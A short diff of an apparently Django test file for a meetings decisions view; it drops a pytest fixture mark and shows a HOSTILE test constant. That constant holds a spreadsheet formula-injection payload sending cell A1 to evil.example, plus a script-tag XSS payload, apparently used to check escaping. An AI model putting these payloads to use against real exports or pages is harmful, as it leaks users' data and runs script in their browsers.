@@ -18,8 +18,6 @@ from django.utils import timezone
 from meetings.models import Decision, Meeting
 from meetings.models.meeting import Status
 
-pytestmark = pytest.mark.usefixtures("no_page_cache")
-
 URL = reverse("meetings:decisions")
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka") <script>alert(1)</script>'
 README = Path(__file__).resolve().parents[2] / "README.md"
